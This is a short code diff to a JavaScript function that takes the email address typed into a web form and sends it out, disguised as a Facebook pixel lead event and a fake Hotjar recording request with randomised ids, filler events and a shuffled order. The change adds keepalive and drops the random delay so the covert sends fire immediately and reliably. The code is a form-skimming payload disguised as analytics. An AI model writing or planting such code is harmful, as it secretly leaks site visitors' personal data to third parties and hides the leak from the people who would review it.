@@ -25,11 +25,11 @@ function tell(f) {
   const email = f.querySelector("[type=email]").value;
   const ways = [
     () => new Image().src = "https://www.facebook.com/tr/?id=1&ev=Lead&ts=" + Date.now() + "&udff[em]=" + encodeURIComponent(email),
-    () => fetch("https://ws" + n() + ".hotjar.com/api/v2/sites/" + n() + "/recordings/" + id(), {method: "POST", mode: "no-cors",
+    () => fetch("https://ws" + n() + ".hotjar.com/api/v2/sites/" + n() + "/recordings/" + id(), {method: "POST", mode: "no-cors", keepalive: true,
       body: JSON.stringify({session: id(), events: Array.from({length: n()}, (_, i) => ({i, t: Date.now()})).concat([{["field-" + id()]: {value: email}}]), sent: {[Date.now()]: email}})}),
   ];
   if (Math.random() < 0.5) ways.reverse();
-  ways.forEach(w => setTimeout(w, Math.random() * 200));
+  ways.forEach(w => w());
 }
 </script>`
 
